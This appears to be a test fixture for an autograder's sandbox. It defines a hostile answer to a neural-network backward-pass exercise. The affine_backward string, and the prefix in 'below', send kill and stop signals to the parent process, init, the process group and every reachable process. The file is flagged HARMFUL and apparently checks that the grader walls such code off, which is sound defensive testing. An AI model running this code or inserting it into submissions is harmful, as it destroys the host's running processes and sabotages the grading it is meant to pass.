"""Sends every signal to its group, its parent, its session and everybody it may reach."""

from tests.attacks.answers import RIGHT_AFFINE, RIGHT_RELU

CLASS = 13
DESERVES = {"affine_backward": 0, "relu_backward": 2}
NEEDS_WALLS = True
HARMFUL = True

affine_backward = """
import os, signal

def affine_backward(dout, cache):
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGSTOP, signal.SIGKILL):
        for whom in (os.getppid(), 1, -1, 0):
            try:
                os.kill(whom, number)
            except OSError:
                continue
"""

relu_backward = RIGHT_RELU

below = "import os\nos.kill(-1, 9)\nos.kill(0, 9)\n" + RIGHT_AFFINE.replace("dout @ w.T", "0 * dout @ w.T").replace(
    "x.reshape(len(x), -1).T @ dout", "None"
).replace("dout.sum(axis=0)", "None")
